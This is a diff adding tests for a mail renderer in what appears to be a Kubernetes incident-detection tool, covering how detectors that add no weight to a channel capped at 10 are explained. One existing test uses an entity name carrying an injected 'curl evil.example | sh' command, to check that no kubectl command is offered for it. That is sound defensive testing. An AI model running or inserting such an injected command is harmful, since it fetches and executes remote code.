@@ -110,6 +110,25 @@ describe('renderMail', () => {
     );
   });
 
+  test('a detector that adds nothing because its channel is full says so', () => {
+    const spec = (detector: string, weight: number) =>
+      ({ detector, channel: 'SPEC', weight, at: '2026-11-20T10:00:00.123Z' }) as const;
+    const contributions = [spec('KM-A01', 6.9), spec('KM-A02', 3.1), spec('KM-A03', 0)];
+    const body = bodyOf(incidentExample({ contributions, evidence: [] }));
+    expect(body).toContain('+0.000  KM-A03\n            adds nothing: the SPEC channel is at its cap of 10\n');
+    const faded = bodyOf(incidentExample({ contributions: [spec('KM-A03', 0.0001)], evidence: [] }));
+    expect(faded).toContain('+0.000  KM-A03\n            adds next to nothing: it is old');
+  });
+
+  test('the cap that is named is that of the hypothesis', () => {
+    const api = (detector: string, weight: number) =>
+      ({ detector, channel: 'API', weight, at: '2026-11-20T10:00:00.123Z' }) as const;
+    const contributions = [api('KM-B01', 9), api('KM-B02', 1), api('KM-B03', 0)];
+    expect(bodyOf(incidentExample({ hypothesis: 'intrusion', contributions, evidence: [] }))).toContain(
+      'adds nothing: the API channel is at its cap of 10',
+    );
+  });
+
   test('no command is offered for a name that Kubernetes would not accept', () => {
     const body = bodyOf(incidentExample({ entity: { ...OWNER, name: 'web; curl evil.example | sh' } }));
     expect(body.slice(body.indexOf('Look'))).not.toContain('kubectl');
